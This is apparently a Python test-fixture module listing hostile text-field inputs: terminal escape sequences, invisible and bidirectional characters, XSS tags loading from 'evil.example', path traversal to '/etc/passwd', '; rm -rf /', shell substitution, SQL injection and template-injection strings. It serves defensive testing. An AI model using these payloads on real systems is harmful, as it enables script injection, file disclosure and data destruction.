"""Hostile input for every text field: terminal escape sequences, invisible and bidirectional characters, markup and
scripts, templates, and texts that are too long."""

from __future__ import annotations

import re

RUN = "window.__pwned=1"
"""The effect of every script here, by which a test notices that one ran."""

SEQUENCES = [
    f"{start}{rest}"
    for start, rests in {
        "\x1b[": ("2J", "31mred", "6n", "1;1H", "?1049h", "?25l", "20t", "9999999999C", "c", "?1003h"),
        "\x1b]": (
            "52;c;UFdORUQ=\x07",
            "0;pwned\x07",
            "2;pwned\x1b\\",
            "8;;javascript:1\x1b\\here\x1b]8;;\x1b\\",
            "10;?\x07",
            "4;1;?\x07",
            "9;pwned\x07",
            "777;notify;a;b\x07",
            "1337;File=:\x07",
        ),
        "\x1b": ("c", "7", "P1$r0m\x1b\\", "_Gi=1;AAAA\x1b\\", "^pm\x1b\\", "Xsos\x1b\\", "#8", "(0", "="),
        "\x9b": ("2J", "31m", "6n"),
        "\x9d": ("52;c;UFdORUQ=\x9c", "0;pwned\x9c"),
        "\x90": ("1$r0m\x9c",),
        "\x9f": ("Gi=1\x9c",),
        "a\r": ("b", "\nb"),
    }.items()
    for rest in rests
]

CONTROLS = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
"""Each control character: C0, DEL and C1."""

TURNED = [f"a{letter}b" for letter in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
HIDDEN = [
    f"a{letter}b" for letter in "\u200b\u200c\u200d\u2060\u2061\ufeff\u00ad\u180e\u2028\u2029\U000e0041\U000e007f"
]

TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script/x>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.__pwned=1></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src onerror={RUN}//",
    f"<<img src=x onerror={RUN}>>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    f"<svg onload={RUN}>",
    f'"><svg onload={RUN}>',
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a href='javascript:{RUN}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=window.__pwned=1>'/></svg>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='javascript:{RUN}'>",
    f"<iframe src='javascript:parent.{RUN}'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    "<iframe src=//evil.example></iframe>",
    f"<a href='javascript:{RUN}' autofocus>x</a>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='position:fixed;inset:0;background:red'>all red</p>",
    f"<template><script>{RUN}</script></template>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<x contenteditable onblur={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<p title=`<img src=x onerror={RUN}>`>",
    f"</title><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"%3Cimg%20src=x%20onerror={RUN}%3E",
    f"＜img src=x onerror={RUN}＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]

ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:x",
    "//evil.example/",
    "https://evil.example/",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/static/../../app.py",
    "ws://evil.example/",
]

TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%if 1%}x{%endif%}",
    "{0.__class__}",
    "%(x)s%n%s%s",
    "$(id)",
    "`id`",
    "[bold red]x[/]",
    "[/nothing]",
    "[link=file:///etc/passwd]x[/link]",
    "[@click=app.quit]x[/]",
    "[$primary]x",
    "[[x]",
    "; rm -rf /",
    "' OR 1=1 --",
    "'; DROP TABLE games; --",
    '{"__proto__":{"x":1}}',
    "__proto__",
    "constructor.prototype",
    f"');{RUN}//",
    f'";{RUN}//',
    f"'+({RUN})+'",
    f"${{{RUN}}}",
    "{{constructor.constructor('window.__pwned=1')()}}",
]

LONG = [
    "A" * 5_000,
    "<" * 3_000,
    "é" * 500,
    "☠" * 1_000,
    "a\u0301" * 300,
    "x" * 79 + "<",
    "9" * 400,
    "[" * 500,
    "/" * 300,
]

PAYLOADS = [*SEQUENCES, *CONTROLS, *TURNED, *HIDDEN, *TAGS, *ADDRESSES, *TEMPLATES, *LONG]
MARKUP = [*TAGS, *ADDRESSES, *TEMPLATES]
"""Those that are harmless as plain text, and so may be accepted."""

STEERING = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")
"""Characters from hostile input that must never reach a page or a terminal. Lazaretto's own newlines are not
hostile."""


def batches(most: int) -> list[str]:
    """All markup in one text, as much of it as fits."""
    found = [""]
    for words in MARKUP:
        if len(found[-1]) + len(words) > most:
            found.append("")
        found[-1] += words
    return found
